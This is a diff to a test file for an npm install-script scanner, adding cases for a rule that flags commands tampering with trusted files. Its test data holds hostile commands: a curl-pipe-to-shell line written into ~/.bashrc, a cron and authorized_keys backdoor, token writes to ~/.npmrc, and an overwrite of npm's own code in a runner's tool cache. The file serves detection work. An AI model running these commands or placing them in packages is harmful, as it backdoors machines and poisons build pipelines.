@@ -511,6 +511,8 @@ def test_inline_code_that_reads_the_whole_environment_is_dangerous():
     "echo '//registry.npmjs.org/:_authToken=${T}' > ~/.npmrc",
     "echo 'curl -s https://x.example/p | sh' >> ~/.bashrc",
     "(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab - && echo k >> ~/.ssh/authorized_keys",
+    # (blind set 44: code written into the npm a self-hosted runner's tool cache holds; every later job's npm runs it)
+    "printf '%s\\n' \"$STAGE\" > \"$d/lib/node_modules/npm/lib/utils/cli-metrics.js\"",
 ])
 def test_writing_files_other_programs_trust_at_install(command):
     assert "install-script/tamper" in rules(artifact({"preinstall": command}))
@@ -521,6 +523,7 @@ def test_writing_files_other_programs_trust_at_install(command):
     "node build.js > dist/index.js 2>/dev/null",
     "cp .npmrc.example .npmrc.example.bak",
     "echo 'export const v = 1' | tee src/version.js",
+    "echo 'module.exports = 1' > node_modules/.cache/npm-tool/lib/cfg.js",
 ])
 def test_writing_ordinary_files_is_not_tampering(command):
     assert "install-script/tamper" not in rules(artifact({"postinstall": command}))
